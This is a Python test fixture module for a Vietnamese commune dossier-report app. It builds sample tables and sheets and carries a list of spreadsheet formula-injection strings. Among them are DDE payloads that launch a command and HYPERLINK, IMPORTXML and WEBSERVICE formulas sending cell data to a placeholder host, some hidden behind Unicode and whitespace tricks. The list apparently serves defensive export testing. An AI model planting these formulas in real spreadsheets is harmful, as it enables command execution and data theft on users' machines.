"""Reports of a made-up commune as tables, of any length, with names that mean no good."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime

from motcua_desktop.domain.report import Period
from motcua_desktop.domain.tabular import Column, Headline, Kind, Row, Table, TableSheet

MADE_ON = date(2026, 11, 20)
AT = datetime(2026, 11, 20, 2, 30, tzinfo=UTC)
PERIOD = Period(date(2026, 10, 15), date(2026, 11, 14), "Tháng 11 năm 2026")
COLUMNS = (
    Column("code", "Mã hồ sơ", Kind.CODE),
    Column("name", "Tên cá nhân, tổ chức"),
    Column("all", "Tổng", Kind.NUMBER, over="Nhận trong kỳ", sums=("online", "direct")),
    Column("online", "Trực tuyến", Kind.NUMBER, over="Nhận trong kỳ", added=True, figures=True),
    Column("direct", "Trực tiếp, bưu chính", Kind.NUMBER, over="Nhận trong kỳ", added=True),
    Column("share", "Tỷ lệ", Kind.SHARE),
    Column("fee", "Phí", Kind.MONEY, added=True),
    Column("day", "Hẹn trả", Kind.DAY),
    Column("at", "Nhận lúc", Kind.MOMENT),
)
# OWASP's list of what a spreadsheet may compute, with what hides the first letter.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://x.invalid?"&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    '=WEBSERVICE("http://x.invalid")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "%0A=1+1;=1+1",
    "An;=1+1",
    "An\t=1+1",
    '";=1+1;"',
)


@dataclass(frozen=True, slots=True)
class Again:
    """Rows that are made each time they are read, and never together."""

    make: Callable[[], Iterator[Row]]

    def __iter__(self) -> Iterator[Row]:
        return self.make()


def a_row(number: int, name: str = 'Nguyễn <An & "Bình"') -> Row:
    """One dossier's line."""
    code = f"H50.31.12-261120-{5000 + number}"
    return Row((code, name, 30, 10, 20, 254 / 323, 8000, date(2026, 11, 30), AT), code=code)


def a_table(count: int = 3, *, headed: bool = False, name: str = 'Nguyễn <An & "Bình"') -> Table:
    """`count` lines, under headings of two each where it is `headed`, with their total."""

    def rows() -> Iterator[Row]:
        for number in range(count):
            if headed and number % 2 == 0:
                below = min(2, count - number)
                yield Row(
                    (None, f"Nhóm {number // 2}", 30 * below, 10 * below, 20 * below, None,
                     8000 * below, None, None),
                    1,
                    key=f"group-{number // 2}",
                )  # fmt: skip
            yield a_row(number, name)

    total = (None, None, 30 * count, 10 * count, 20 * count, 254 / 323, 8000 * count, None, None)
    return Table("lines", "Hồ sơ số hóa", COLUMNS, Again(rows), total)


def a_sheet(*tables: Table, **changes: object) -> TableSheet:
    """A report of these tables; of one with three lines where none is given."""
    sheet = TableSheet(
        form="digitisation",
        short="Số hóa hồ sơ",
        title="TÌNH HÌNH SỐ HÓA HỒ SƠ",
        agency="UBND xã Minh Tân",
        place="Minh Tân",
        made_on=MADE_ON,
        tables=tables or (a_table(),),
        period=PERIOD,
        headlines=(
            Headline("digitised", "Hồ sơ số hóa từ khâu tiếp nhận", 254),
            Headline("share", "Tỷ lệ số hóa", 254 / 323, Kind.SHARE, good=False),
        ),
        notes=("Hồ sơ tính theo ngày tiếp nhận.",),
        options={"compare_by": "unit"},
    )
    return replace(sheet, **changes)  # type: ignore[arg-type]  # the tests name real fields
